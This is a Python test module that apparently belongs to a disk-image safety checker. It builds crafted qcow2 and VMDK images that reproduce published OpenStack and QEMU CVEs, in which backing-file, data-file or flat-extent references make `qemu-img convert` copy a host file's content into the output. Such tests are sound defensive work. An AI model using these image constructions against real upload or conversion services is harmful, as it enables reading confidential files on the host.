"""The published attacks: images that name a file of the host, so that its content comes out as the disk's.

CVE-2015-5163, CVE-2022-47951, CVE-2024-32498, CVE-2024-40767 and CVE-2026-24708 (OpenStack), CVE-2024-4467 (QEMU). Each
is made such that `qemu-img convert`, left to itself, falls for it.
"""

from __future__ import annotations

import json
import struct
from collections.abc import Callable
from pathlib import Path

from tests.images.bad_qcow2 import data_file_of
from tests.images.bad_vmdk import PLAIN
from tests.images.good import SIZE, Good, patched, qemu_img

SECTORS = SIZE // 512
WORD = b"nobody else may read this; "


Attack = Callable[[Good, Path, Path], None]
"""Made of good images, to take the host's file (the second), into the third."""


def secret_file(path: Path) -> Path:
    """A file of the host that anybody may read: only the confinement is in the way."""
    path.write_bytes((WORD * (SIZE // len(WORD) + 1))[:SIZE])
    path.chmod(0o644)
    return path


def data_file(good: Good, secret: Path, image: Path) -> None:
    data_file_of(image, secret, SIZE)
    secret_file(secret)  # which was emptied when the image was made


def backing_file(good: Good, secret: Path, image: Path) -> None:
    qemu_img("create", "-f", "qcow2", "-b", secret, "-F", "raw", image)


def backing_file_in_json(good: Good, secret: Path, image: Path) -> None:
    named = json.dumps({"driver": "raw", "file": {"driver": "file", "filename": str(secret)}})
    qemu_img("create", "-f", "qcow2", "-b", f"json:{named}", "-F", "raw", image)


def flat_descriptor(good: Good, secret: Path, image: Path) -> None:
    image.write_text(_flat(secret))


def flat_descriptor_embedded(good: Good, secret: Path, image: Path) -> None:
    """In a sparse VMDK that says that its size is 0, upon which its descriptor is followed."""
    text = _flat(secret).encode().ljust(20 * 512, b"\0")
    image.write_bytes(patched(patched(good["vmdk-sparse"], 512, text), 12, struct.pack("<Q", 0)))


def flat_descriptor_of_many(good: Good, secret: Path, image: Path) -> None:
    """The parts of a disk, the second of which is the host's file."""
    Path(image.parent, "first.raw").write_bytes(bytes(512))
    text = _flat(secret).replace("monolithicFlat", "twoGbMaxExtentFlat").replace(f"RW {SECTORS} ", f"RW {SECTORS - 1} ")
    image.write_text(text.replace("RW ", 'RW 1 FLAT "first.raw" 0\nRW '))


def header_in_a_disk(good: Good, secret: Path, image: Path) -> None:
    """What a guest writes to the beginning of its own disk, before the disk is resized or a snapshot of it made."""
    name = str(secret).encode()
    clusters = 65536
    header = struct.pack(
        ">4sIQIIQIIQQIIQ", b"QFI\xfb", 2, 200, len(name), 16, SIZE, 0, 1, 5 * 2**20, 5 * 2**20 + clusters, 1, 0, 0
    )
    disk = patched(good["raw-gpt"], 0, header + bytes(200 - len(header)) + name)
    image.write_bytes(disk)


def _flat(secret: Path) -> str:
    return PLAIN.replace("monolithicSparse", "monolithicFlat").replace('SPARSE "disk.vmdk"', f'FLAT "{secret}" 0')


ATTACKS: dict[str, Attack] = {
    "qcow2, data file": data_file,
    "qcow2, backing file": backing_file,
    "qcow2, backing file in JSON": backing_file_in_json,
    "VMDK, flat descriptor": flat_descriptor,
    "VMDK, flat descriptor embedded": flat_descriptor_embedded,
    "VMDK, flat descriptor of many parts": flat_descriptor_of_many,
    "qcow2 header in a raw disk": header_in_a_disk,
}
